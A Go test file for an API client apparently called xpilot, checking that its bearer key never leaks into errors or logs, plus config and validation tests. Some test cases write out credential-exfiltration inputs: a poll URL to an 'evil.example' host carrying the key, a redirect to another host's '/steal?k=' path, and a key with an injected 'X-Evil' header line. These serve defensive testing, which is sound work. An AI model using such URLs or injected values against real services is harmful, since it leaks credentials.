package xpilot

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/xpflow/xpflow/internal/clock"
)

// echoKey answers with the bearer token the client sent, in various places.
func echoKey(r *http.Request) string {
	return strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
}

// errorChain returns the message of err and of everything it unwraps to.
func errorChain(err error) []string {
	var out []string
	for err != nil {
		out = append(out, err.Error(), fmt.Sprintf("%v", err), fmt.Sprintf("%+v", err))
		switch u := err.(type) {
		case interface{ Unwrap() []error }:
			for _, e := range u.Unwrap() {
				out = append(out, errorChain(e)...)
			}
			return out
		}
		err = errors.Unwrap(err)
	}
	return out
}

func TestKeyNeverLeaks(t *testing.T) {
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" {
			t.Errorf("the key reached another host")
		}
	}))
	t.Cleanup(elsewhere.Close)
	tests := map[string]struct {
		answer   func(w http.ResponseWriter, r *http.Request)
		call     func(c *Client, base string) error
		mod      func(cfg *Config)
		wantFail bool
	}{
		"401 message echoes the key": {
			answer: func(w http.ResponseWriter, r *http.Request) {
				apiErr(w, 401, "UNAUTHORIZED", "key "+echoKey(r)+" revoked")
			},
			call: endpointCall("video"),
		},
		"error code echoes the key": {
			answer: func(w http.ResponseWriter, r *http.Request) { apiErr(w, 400, echoKey(r), "bad") },
			call:   endpointCall("text"),
		},
		"HTML 500 echoes the key, retried and logged": {
			answer: func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/html; key="+echoKey(r))
				w.WriteHeader(500)
				io.WriteString(w, "<pre>Authorization: Bearer "+echoKey(r)+"</pre>")
			},
			call: endpointCall("models"),
		},
		"429 echoes the key, retried and logged": {
			answer: func(w http.ResponseWriter, r *http.Request) { apiErr(w, 429, "RATE_LIMITED", "slow down "+echoKey(r)) },
			call:   endpointCall("image"),
		},
		"truncated 2xx generate echoes the key": {
			answer: func(w http.ResponseWriter, r *http.Request) {
				jsonAnswer(w, 200, `{"task_id":"`+echoKey(r)+`","status":"process`)
			},
			call: endpointCall("video"),
		},
		"key straddling the excerpt cut": {
			answer: func(w http.ResponseWriter, r *http.Request) {
				w.WriteHeader(400)
				io.WriteString(w, strings.Repeat("x", excerptLen-10)+echoKey(r))
			},
			call: endpointCall("video"),
		},
		"2xx poll without status echoes the key": {
			answer: func(w http.ResponseWriter, r *http.Request) { jsonAnswer(w, 200, `{"task_id":"`+echoKey(r)+`"}`) },
			call:   endpointCall("poll"),
		},
		"connection closed, key in the poll URL": {
			answer: func(w http.ResponseWriter, r *http.Request) { hijackClose(w) },
			call: func(c *Client, base string) error {
				_, err := c.Poll(context.Background(), "/api/v1/video/a?provider=seedance&echo="+testKey)
				return err
			},
		},
		"poll_url on another host carrying the key": {
			answer: func(w http.ResponseWriter, r *http.Request) {},
			call: func(c *Client, base string) error {
				_, err := c.Poll(context.Background(), "https://"+testKey+".evil.example/x?k="+testKey)
				return err
			},
		},
		"unparsable poll_url carrying the key": {
			answer: func(w http.ResponseWriter, r *http.Request) {},
			call: func(c *Client, base string) error {
				_, err := c.Poll(context.Background(), "/x?%zz"+testKey+"\x7f")
				return err
			},
		},
		"redirect to another host": {
			answer: func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, elsewhere.URL+"/steal?k="+echoKey(r), http.StatusFound)
			},
			call: endpointCall("models"),
			mod:  func(cfg *Config) { cfg.HTTPClient = nil },
		},
		"dial error message carrying the key": {
			answer: func(w http.ResponseWriter, r *http.Request) {},
			call:   endpointCall("video"),
			mod: func(cfg *Config) {
				cfg.HTTPClient = &http.Client{Transport: &http.Transport{
					DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
						return nil, errors.New("proxy refused Bearer " + testKey)
					}}}
			},
		},
		"base URL carrying the key": {
			mod:      func(cfg *Config) { cfg.BaseURL = "ftp://host/" + testKey },
			wantFail: true,
		},
		"malformed base URL carrying the key": {
			mod:      func(cfg *Config) { cfg.BaseURL = "http://host:" + testKey + "/%zz" },
			wantFail: true,
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			f := clock.NewFake(t0)
			autoAdvance(t, f)
			rec := newRecorder(t, f, func(w http.ResponseWriter, r *http.Request, n int) {
				if tc.answer != nil {
					tc.answer(w, r)
				}
			})
			lg := &logs{}
			cfg := Config{BaseURL: rec.srv.URL, APIKey: testKey, Clock: f, Logf: lg.Logf, HTTPClient: rec.srv.Client()}
			if tc.mod != nil {
				tc.mod(&cfg)
			}
			c, err := New(cfg)
			if tc.wantFail {
				if err == nil {
					t.Fatal("New accepted a bad config")
				}
			} else {
				if err != nil {
					t.Fatal(err)
				}
				err = tc.call(c, rec.srv.URL)
			}
			if err == nil {
				t.Fatal("got no error, want one")
			}
			// Part of a key is a leak too: look for a fragment.
			const fragment = "TESTKEY"
			for _, s := range errorChain(err) {
				if strings.Contains(s, fragment) {
					t.Errorf("error leaks the key: %s", s)
				}
			}
			if strings.Contains(lg.String(), fragment) {
				t.Errorf("log leaks the key:\n%s", lg.String())
			}
		})
	}
}

func endpointCall(name string) func(*Client, string) error {
	return func(c *Client, _ string) error { return endpoints[name](c) }
}

func TestConfigFromEnv(t *testing.T) {
	tests := map[string]struct {
		env     map[string]string
		base    Config
		want    Config
		wantErr bool
	}{
		"defaults": {
			want: Config{BaseURL: DefaultBaseURL, RequestsPerMinute: 30},
		},
		"spec values kept when env is empty": {
			base: Config{BaseURL: "http://spec", APIKey: "xp_spec", RequestsPerMinute: 10},
			want: Config{BaseURL: "http://spec", APIKey: "xp_spec", RequestsPerMinute: 10},
		},
		"env wins over spec": {
			env:  map[string]string{EnvBaseURL: "http://env", EnvAPIKey: "xp_env", EnvRateLimit: "12"},
			base: Config{BaseURL: "http://spec", APIKey: "xp_spec", RequestsPerMinute: 10},
			want: Config{BaseURL: "http://env", APIKey: "xp_env", RequestsPerMinute: 12},
		},
		"bad rate limit":      {env: map[string]string{EnvRateLimit: "fast"}, wantErr: true},
		"zero rate limit":     {env: map[string]string{EnvRateLimit: "0"}, wantErr: true},
		"negative rate limit": {env: map[string]string{EnvRateLimit: "-5"}, wantErr: true},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			got, err := ConfigFromEnv(func(k string) string { return tc.env[k] }, tc.base)
			if (err != nil) != tc.wantErr {
				t.Fatalf("got error %v, want error %v", err, tc.wantErr)
			}
			if tc.wantErr {
				if !strings.Contains(err.Error(), EnvRateLimit) {
					t.Errorf("error %q does not name %s", err, EnvRateLimit)
				}
				return
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("config (-want +got):\n%s", diff)
			}
		})
	}
}

func TestNewRejects(t *testing.T) {
	tests := map[string]Config{
		"no key":            {BaseURL: "http://x"},
		"key with newline":  {BaseURL: "http://x", APIKey: "xp_a\nX-Evil: 1"},
		"no host":           {BaseURL: "http://", APIKey: "xp_a"},
		"negative limit":    {BaseURL: "http://x", APIKey: "xp_a", RequestsPerMinute: -1},
		"not http":          {BaseURL: "file:///etc", APIKey: "xp_a"},
		"relative base URL": {BaseURL: "xpilot.jytech.us", APIKey: "xp_a"},
	}
	for name, cfg := range tests {
		t.Run(name, func(t *testing.T) {
			if _, err := New(cfg); err == nil {
				t.Errorf("New(%s) accepted the config", name)
			}
		})
	}
}
